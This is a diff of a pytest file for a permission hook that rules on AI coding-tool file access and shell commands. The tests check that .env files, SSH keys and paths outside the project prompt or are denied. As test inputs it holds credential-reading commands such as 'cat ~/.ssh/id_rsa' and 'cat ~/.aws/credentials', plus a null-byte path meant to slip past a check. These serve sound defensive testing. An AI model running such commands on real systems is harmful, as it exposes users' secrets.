-        assert captured.out.strip() == ""
+    def test_falls_back_to_any_known_key(self):
+        """A path under an unexpected key is still checked, never skipped."""
+        assert gk._file_tool_path("Edit", {"path": "/etc/hosts"}) == "/etc/hosts"
+        assert gk._file_tool_path("Unknown", {"notebook_path": "n.ipynb"}) == "n.ipynb"
 
-    def test_disabled_config_safe_file_emits_allow(self, capsys, tmp_path):
-        """config.enabled=False + safe file → emits allow JSON.
+    def test_no_path(self):
+        assert gk._file_tool_path("Glob", {"pattern": "**/*.py"}) == ""
 
-        >>> # Path safety disabled + main.py → emit_allow()
-        """
-        cwd = str(tmp_path)
-        disabled_config = {
-            "enabled": False,
-            "disabled_patterns": [],
-            "allowed_paths": [],
-            "watched_paths": [],
-        }
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=disabled_config),
-            patch.object(gk, "_check_file_tool_permissions", return_value=False),
-            patch.object(gk, "_is_path_sensitive", return_value=None),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": "main.py"}, cwd, "test-session")
+class TestHandleFileTool:
+    """Tests for _handle_file_tool emit_allow / _emit_deny decisions.
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
-        assert output["hookSpecificOutput"]["permissionDecision"] == "allow"
+    Verifies the security invariant: path safety runs BEFORE permission
+    rules, so broad wildcards can never auto-approve sensitive files.
+    """
 
-    def test_empty_file_path_silent_exit(self, capsys, tmp_path):
-        """Empty file_path → no output (silent exit).
+    # (tool, input key, path, file to create in tmp_path, stubs, expected decision)
+    # "{tmp}" in the path is replaced with tmp_path; expected None = silent exit.
+    _DECISION_CASES = [
+        pytest.param(
+            "Read", "file_path", "{tmp}/main.py", "main.py",
+            {"_read_path_safety_config": _SAFE_CONFIG,
+             "_check_file_tool_permissions": False},
+            "allow",
+            id="safe-in-project-file-allows",
+        ),
+        pytest.param(
+            "Read", "file_path", "/some/allowed/file.txt", None,
+            {"_read_path_safety_config": _SAFE_CONFIG,
+             "_is_watched_path": None,
+             "_is_path_sensitive": None,
+             "_is_outside_project": None,
+             "_check_file_tool_permissions": True},
+            "allow",
+            id="permission-match-allows",
+        ),
+        pytest.param(
+            "Read", "file_path", ".env", None,
+            {"_read_path_safety_config": _SAFE_CONFIG,
+             "_is_watched_path": None,
+             "_is_path_sensitive": "sensitive file (.env files)"},
+            "ask",
+            id="sensitive-file-asks",
+        ),
+        pytest.param(
+            # Security invariant: ask wins, permission match is never reached
+            "Read", "file_path", ".env", None,
+            {"_read_path_safety_config": _SAFE_CONFIG,
+             "_is_watched_path": None,
+             "_is_path_sensitive": "sensitive file (.env files)",
+             "_check_file_tool_permissions": True},
+            "ask",
+            id="sensitive-file-asks-despite-permission-match",
+        ),
+        pytest.param(
+            # Path safety disabled + .env → let Claude Code handle it
+            "Read", "file_path", ".env", None,
+            {"_read_path_safety_config": _DISABLED_CONFIG,
+             "_check_file_tool_permissions": False,
+             "_is_path_sensitive": "sensitive file (.env files)"},
+            None,
+            id="disabled-config-sensitive-file-silent",
+        ),
+        pytest.param(
+            "Read", "file_path", "main.py", None,
+            {"_read_path_safety_config": _DISABLED_CONFIG,
+             "_check_file_tool_permissions": False,
+             "_is_path_sensitive": None},
+            "allow",
+            id="disabled-config-safe-file-allows",
+        ),
+        pytest.param(
+            "Read", "file_path", "", None, {}, None,
+            id="empty-file-path-silent",
+        ),
+        pytest.param(
+            # Grep uses tool_input["path"], not "file_path"
+            "Grep", "path", "{tmp}/search_target.py", "search_target.py",
+            {"_read_path_safety_config": _SAFE_CONFIG,
+             "_check_file_tool_permissions": False},
+            "allow",
+            id="grep-path-key-allows",
+        ),
+        pytest.param(
+            "NotebookEdit", "notebook_path", "{tmp}/analysis.ipynb", "analysis.ipynb",
+            {"_read_path_safety_config": _SAFE_CONFIG,
+             "_check_file_tool_permissions": False},
+            "allow",
+            id="notebook-path-key-allows",
+        ),
+    ]
+
+    @pytest.mark.parametrize(
+        "tool,key,path,create,stubs,expected", _DECISION_CASES
+    )
+    def test_decision(
+        self, capfd, tmp_path, gk_stub, tool, key, path, create, stubs, expected
+    ):
+        """Each tool/path/stub combination yields the expected decision.
 
-        >>> # No path to check → silent exit
+        >>> # Path safety runs before permissions; disabled config never asks
         """
+        if create:
+            (tmp_path / create).write_text("{}")
         cwd = str(tmp_path)
 
-        with (
-            patch.object(gk, "_record_hook_execution"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": ""}, cwd, "test-session")
+        gk_stub(_record_decision=None, _record_hook_execution=None, **stubs)
+        gk._handle_file_tool(
+            tool, {key: path.format(tmp=tmp_path)}, cwd, "test-session",
+            project_dir=cwd,
+        )
 
-        captured = capsys.readouterr()
-        assert captured.out.strip() == ""
+        out = capfd.readouterr().out
+        if expected is None:
+            assert out == ""
+            return
+        output = json.loads(out)
+        assert output["hookSpecificOutput"]["permissionDecision"] == expected
+        if expected == "ask":
+            assert ".env" in output["hookSpecificOutput"]["permissionDecisionReason"]
 
-    def test_grep_path_key_emits_allow(self, capsys, tmp_path):
-        """Grep tool uses 'path' key — still emits allow for safe paths.
+    def test_target_resolved_once_per_event(self, capsys, tmp_path, gk_stub):
+        """Watched, sensitive and outside-project checks share one resolve().
 
-        >>> # Grep uses tool_input["path"], not "file_path"
+        >>> # One _resolve_target call feeds all three path checks
         """
-        test_file = tmp_path / "search_target.py"
-        test_file.write_text("code")
+        (tmp_path / "main.py").write_text("x")
         cwd = str(tmp_path)
+        calls = []
+        real_resolve = gk._resolve_target
+
+        def _counting_resolve(*args):
+            calls.append(args)
+            return real_resolve(*args)
+
+        config = dict(_SAFE_CONFIG, watched_paths=["/nowhere"])
+        gk_stub(
+            _read_path_safety_config=config,
+            _resolve_target=_counting_resolve,
+            _check_file_tool_permissions=False,
+            _record_decision=None,
+        )
+        gk._handle_file_tool("Read", {"file_path": "main.py"}, cwd, "test-session", project_dir=cwd)
 
-        with (
-            patch.object(
-                gk, "_read_path_safety_config", return_value=self._safe_config()
-            ),
-            patch.object(gk, "_check_file_tool_permissions", return_value=False),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Grep", {"path": str(test_file)}, cwd, "test-session")
-
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
+        assert calls == [("main.py", cwd)]
+        output = json.loads(capsys.readouterr().out)
         assert output["hookSpecificOutput"]["permissionDecision"] == "allow"
 
-    def test_notebook_path_key_emits_allow(self, capsys, tmp_path):
-        """NotebookEdit uses 'notebook_path' key — still emits allow for safe paths.
+    def test_null_byte_in_path_denied(self, capsys, shared_cwd):
+        """Null byte in file path emits deny — prevents regex bypass.
 
-        >>> # NotebookEdit uses tool_input["notebook_path"]
+        >>> # Null bytes are never legitimate in file paths
         """
-        nb = tmp_path / "analysis.ipynb"
-        nb.write_text("{}")
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(
-                gk, "_read_path_safety_config", return_value=self._safe_config()
-            ),
-            patch.object(gk, "_check_file_tool_permissions", return_value=False),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool(
-                "NotebookEdit", {"notebook_path": str(nb)}, cwd, "test-session"
-            )
+        gk._handle_file_tool(
+            "Read", {"file_path": "/safe.py\x00.env"}, cwd, "test-session",
+            project_dir=cwd,
+        )
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
-        assert output["hookSpecificOutput"]["permissionDecision"] == "allow"
+        output = json.loads(capsys.readouterr().out)
+        assert output["hookSpecificOutput"]["permissionDecision"] == "deny"
+        assert "null byte" in output["hookSpecificOutput"]["permissionDecisionReason"]
 
-    def test_null_byte_in_path_denied(self, capsys, tmp_path):
-        """Null byte in file path emits deny — prevents regex bypass.
+    def test_null_byte_denied_before_config_or_fs(self, capsys, shared_cwd, gk_stub):
+        """Null-byte paths are rejected before the settings DB or any resolve().
 
-        >>> # Null bytes are never legitimate in file paths
+        >>> # Adversarial input exits on one substring scan
         """
-        cwd = str(tmp_path)
 
-        with patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}):
-            gk._handle_file_tool(
-                "Read", {"file_path": "/safe.py\x00.env"}, cwd, "test-session"
-            )
+        def _unreachable(*args, **kwargs):
+            raise AssertionError("reached past the null-byte check")
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
+        gk_stub(_read_path_safety_config=_unreachable, _resolve_dir=_unreachable)
+        gk._handle_file_tool_inner(
+            "Read", {"file_path": "a\x00b"}, shared_cwd, "test-session"
+        )
+        output = json.loads(capsys.readouterr().out)
         assert output["hookSpecificOutput"]["permissionDecision"] == "deny"
-        assert "null byte" in output["hookSpecificOutput"]["permissionDecisionReason"]
 
-    def test_exception_in_inner_is_silent(self, capsys, tmp_path):
+    def test_exception_in_inner_is_silent(self, capfd, shared_cwd, gk_stub):
         """Unhandled exception in inner function → silent exit (no output).
 
         >>> # Exception = fail-open, Claude Code decides
         """
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(
-                gk, "_read_path_safety_config", side_effect=RuntimeError("DB locked")
-            ),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": "main.py"}, cwd, "test-session")
+        def _db_locked(*args, **kwargs):
+            raise RuntimeError("DB locked")
+
+        gk_stub(_read_path_safety_config=_db_locked)
+        gk._handle_file_tool("Read", {"file_path": "main.py"}, cwd, "test-session", project_dir=cwd)
 
-        captured = capsys.readouterr()
         # No JSON output — silent exit, Claude Code decides
-        assert captured.out.strip() == "" or "permissionDecision" not in captured.out
+        out = capfd.readouterr().out
+        assert "permissionDecision" not in out
 
     def _defer_config(self, outside_reads="defer", outside_writes="defer"):
         """Config with outside-project defer enabled."""
@@ -2909,170 +3262,134 @@ class TestHandleFileTool:
             "outside_writes": outside_writes,
         }
 
-    def test_outside_read_defer_silent_exit(self, capsys, tmp_path):
+    def _stub_outside(self, gk_stub, config):
+        """Stub path checks so the target is only 'outside project directory'."""
+        gk_stub(
+            _read_path_safety_config=config,
+            _is_watched_path=None,
+            _is_path_sensitive=None,
+            _is_outside_project="outside project directory",
+            _record_decision=None,
+            _record_hook_execution=None,
+        )
+
+    def test_outside_read_defer_silent_exit(self, capfd, shared_cwd, gk_stub):
         """Outside-project Read with outside_reads=defer → no output (Claude Code decides).
 
         >>> # Defer = silent exit, Claude Code's session perms handle it
         """
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=self._defer_config()),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(gk, "_is_path_sensitive", return_value=None),
-            patch.object(gk, "_is_outside_project", return_value="outside project directory"),
-            patch.object(gk, "_record_decision"),
-            patch.object(gk, "_record_hook_execution"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": "/other/dir/file.py"}, cwd, "test-session")
+        self._stub_outside(gk_stub, self._defer_config())
+        gk._handle_file_tool("Read", {"file_path": "/other/dir/file.py"}, cwd, "test-session", project_dir=cwd)
 
-        captured = capsys.readouterr()
-        assert captured.out.strip() == ""
+        assert capfd.readouterr().out == ""
 
-    def test_outside_grep_defer_silent_exit(self, capsys, tmp_path):
+    def test_outside_grep_defer_silent_exit(self, capfd, shared_cwd, gk_stub):
         """Outside-project Grep with outside_reads=defer → no output.
 
         >>> # Grep is a read tool, uses outside_reads setting
         """
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=self._defer_config()),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(gk, "_is_path_sensitive", return_value=None),
-            patch.object(gk, "_is_outside_project", return_value="outside project directory"),
-            patch.object(gk, "_record_decision"),
-            patch.object(gk, "_record_hook_execution"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Grep", {"path": "/other/dir"}, cwd, "test-session")
+        self._stub_outside(gk_stub, self._defer_config())
+        gk._handle_file_tool("Grep", {"path": "/other/dir"}, cwd, "test-session", project_dir=cwd)
 
-        captured = capsys.readouterr()
-        assert captured.out.strip() == ""
+        assert capfd.readouterr().out == ""
 
-    def test_outside_write_defer_silent_exit(self, capsys, tmp_path):
+    def test_outside_write_defer_silent_exit(self, capfd, shared_cwd, gk_stub):
         """Outside-project Edit with outside_writes=defer → no output.
 
         >>> # Edit is a write tool, uses outside_writes setting
         """
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=self._defer_config()),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(gk, "_is_path_sensitive", return_value=None),
-            patch.object(gk, "_is_outside_project", return_value="outside project directory"),
-            patch.object(gk, "_record_decision"),
-            patch.object(gk, "_record_hook_execution"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Edit", {"file_path": "/other/dir/file.py"}, cwd, "test-session")
+        self._stub_outside(gk_stub, self._defer_config())
+        gk._handle_file_tool("Edit", {"file_path": "/other/dir/file.py"}, cwd, "test-session", project_dir=cwd)
 
-        captured = capsys.readouterr()
-        assert captured.out.strip() == ""
+        assert capfd.readouterr().out == ""
 
-    def test_outside_read_ask_emits_ask(self, capsys, tmp_path):
+    def test_outside_read_ask_emits_ask(self, capsys, shared_cwd, gk_stub):
         """Outside-project Read with outside_reads=ask → emits ask (current behavior).
 
         >>> # ask = always prompt, same as before
         """
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=self._defer_config(outside_reads="ask")),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(gk, "_is_path_sensitive", return_value=None),
-            patch.object(gk, "_is_outside_project", return_value="outside project directory"),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": "/other/dir/file.py"}, cwd, "test-session")
+        self._stub_outside(gk_stub, self._defer_config(outside_reads="ask"))
+        gk._handle_file_tool("Read", {"file_path": "/other/dir/file.py"}, cwd, "test-session", project_dir=cwd)
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
+        output = json.loads(capsys.readouterr().out)
         assert output["hookSpecificOutput"]["permissionDecision"] == "ask"
 
-    def test_outside_write_ask_when_reads_defer(self, capsys, tmp_path):
+    def test_outside_write_ask_when_reads_defer(self, capsys, shared_cwd, gk_stub):
         """Outside-project Edit with outside_reads=defer but outside_writes=ask → emits ask.
 
         >>> # Write tools use outside_writes, not outside_reads
         """
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=self._defer_config(outside_reads="defer", outside_writes="ask")),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(gk, "_is_path_sensitive", return_value=None),
-            patch.object(gk, "_is_outside_project", return_value="outside project directory"),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Edit", {"file_path": "/other/dir/file.py"}, cwd, "test-session")
+        self._stub_outside(
+            gk_stub, self._defer_config(outside_reads="defer", outside_writes="ask")
+        )
+        gk._handle_file_tool("Edit", {"file_path": "/other/dir/file.py"}, cwd, "test-session", project_dir=cwd)
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
+        output = json.loads(capsys.readouterr().out)
         assert output["hookSpecificOutput"]["permissionDecision"] == "ask"
 
-    def test_sensitive_file_asks_despite_defer(self, capsys, tmp_path):
+    def test_sensitive_file_asks_despite_defer(self, capsys, shared_cwd, gk_stub):
         """Sensitive file (.env) still asks even with defer enabled.
 
         >>> # Security invariant: sensitive > defer
         """
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=self._defer_config()),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(gk, "_is_path_sensitive", return_value="sensitive file (.env files)"),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": "/other/.env"}, cwd, "test-session")
+        gk_stub(
+            _read_path_safety_config=self._defer_config(),
+            _is_watched_path=None,
+            _is_path_sensitive="sensitive file (.env files)",
+            _record_decision=None,
+        )
+        gk._handle_file_tool("Read", {"file_path": "/other/.env"}, cwd, "test-session", project_dir=cwd)
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
+        output = json.loads(capsys.readouterr().out)
         assert output["hookSpecificOutput"]["permissionDecision"] == "ask"
         assert ".env" in output["hookSpecificOutput"]["permissionDecisionReason"]
 
-    def test_watched_path_asks_despite_defer(self, capsys, tmp_path):
+    def test_watched_path_asks_despite_defer(self, capsys, shared_cwd, gk_stub):
         """Watched path still asks even with defer enabled.
 
         >>> # Security invariant: watched > defer
         """
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=self._defer_config()),
-            patch.object(gk, "_is_watched_path", return_value="watched path match"),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": "/watched/secret.txt"}, cwd, "test-session")
+        gk_stub(
+            _read_path_safety_config=self._defer_config(),
+            _is_watched_path="watched path match",
+            _record_decision=None,
+        )
+        gk._handle_file_tool("Read", {"file_path": "/watched/secret.txt"}, cwd, "test-session", project_dir=cwd)
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
+        output = json.loads(capsys.readouterr().out)
         assert output["hookSpecificOutput"]["permissionDecision"] == "ask"
 
-    def test_outside_defer_denied_in_headless(self, capsys, tmp_path):
+    def test_outside_defer_denied_in_headless(self, capsys, shared_cwd, gk_stub):
         """Outside-project with defer in headless mode → deny (not defer).
 
         >>> # Headless = no human, defer would be unsafe
         """
-        cwd = str(tmp_path)
+        cwd = shared_cwd
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=self._defer_config()),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(gk, "_is_path_sensitive", return_value=None),
-            patch.object(gk, "_is_outside_project", return_value="outside project directory"),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": "/other/file.py"}, cwd, "test-session", permission_mode="bypassPermissions")
+        gk_stub(
+            _read_path_safety_config=self._defer_config(),
+            _is_watched_path=None,
+            _is_path_sensitive=None,
+            _is_outside_project="outside project directory",
+            _record_decision=None,
+        )
+        gk._handle_file_tool("Read", {"file_path": "/other/file.py"}, cwd, "test-session", permission_mode="bypassPermissions", project_dir=cwd)
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
+        output = json.loads(capsys.readouterr().out)
         assert output["hookSpecificOutput"]["permissionDecision"] == "deny"
 
 
@@ -3097,12 +3414,8 @@ class TestBashFloorCheck:
         }
         # _check_bash_path_safety returns None (disabled)
         assert gk._check_bash_path_safety("cat .env", "/tmp", config) is None
-        # But the sensitive file regex still matches the command
-        matched = any(
-            rule["pattern"].search("cat .env")
-            for rule in gk.SENSITIVE_FILE_RULES.values()
-        )
-        assert matched is True
+        # But the floor check still matches the command
+        assert gk._floor_sensitive_label("cat .env") == ".env files"
 
     def test_cat_ssh_key_blocked_when_disabled(self):
         """cat ~/.ssh/id_rsa should NOT auto-approve when path safety disabled.
@@ -3116,27 +3429,30 @@ class TestBashFloorCheck:
             "watched_paths": [],
         }
         assert gk._check_bash_path_safety("cat ~/.ssh/id_rsa", "/tmp", config) is None
-        matched = any(
-            rule["pattern"].search("cat ~/.ssh/id_rsa")
-            for rule in gk.SENSITIVE_DIR_RULES.values()
-        )
-        assert matched is True
+        assert gk._floor_sensitive_label("cat ~/.ssh/id_rsa") is not None
 
     def test_safe_command_unaffected_when_disabled(self):
         """git status should still auto-approve when path safety disabled.
 
         >>> # Disabled + safe command → no floor check match
         """
-        file_matched = any(
-            rule["pattern"].search("git status")
-            for rule in gk.SENSITIVE_FILE_RULES.values()
-        )
-        dir_matched = any(
-            rule["pattern"].search("git status")
-            for rule in gk.SENSITIVE_DIR_RULES.values()
-        )
-        assert file_matched is False
-        assert dir_matched is False
+        assert gk._floor_sensitive_label("git status") is None
+
+    def test_combined_regex_agrees_with_rule_loop(self):
+        """The single-pass prefilter matches exactly when some rule does."""
+        rules = [
+            *gk.SENSITIVE_FILE_RULES.values(),
+            *gk.SENSITIVE_DIR_RULES.values(),
+        ]
+        samples = [
+            "cat .env", "cat .env.local", "cat '.npmrc'", "cat cert.PFX",
+            "ls ~/.ssh", "cat ~/.aws/credentials", "vim config/master.key",
+            "git status", "cat environment.py", "echo tokenizer", "ls .sshx",
+            "cat secrets.json", "cat ~/.kube/config", "python manage.py",
+        ]
+        for cmd in samples:
+            expected = any(rule["pattern"].search(cmd) for rule in rules)
+            assert bool(gk._SENSITIVE_ANY_RE.search(cmd)) is expected, cmd
 
 
 # ---------------------------------------------------------------------------